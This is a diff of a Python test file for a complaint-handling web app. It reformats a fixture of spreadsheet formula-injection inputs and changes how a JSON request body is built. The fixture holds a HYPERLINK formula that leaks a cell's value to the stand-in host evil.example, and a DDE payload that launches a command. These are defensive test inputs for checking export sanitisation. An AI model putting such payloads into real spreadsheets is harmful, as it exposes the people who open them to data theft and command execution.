@@ -15,7 +15,8 @@ from tests.integration.test_complaint import INTAKE
 from tests.web.conftest import csrf_of, sign_in
 
 FORMULAS = {"respondent": '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")',
-            "subject": "@SUM(1+1)*cmd|' /C calc'!A0", "complainant": "+86 王女士", "enterprise": "-2+3", "hotline_ref": "\t=1+1", "content": "\r=1+1 具体内容"}
+            "subject": "@SUM(1+1)*cmd|' /C calc'!A0", "complainant": "+86 王女士", "enterprise": "-2+3",
+            "hotline_ref": "\t=1+1", "content": "\r=1+1 具体内容"}
 
 
 @pytest.fixture(autouse=True)
@@ -93,7 +94,7 @@ def test_next_keeps_a_path_on_this_site_and_refuses_cr_lf(client, sessions):
 
 
 def _body(data_text: str) -> str:
-    return '{"process_id": "clue_0137", "data": {"summary": %s}}' % data_text
+    return '{"process_id": "clue_0137", "data": {"summary": ' + data_text + "}}"
 
 
 @pytest.mark.parametrize("body,words", [
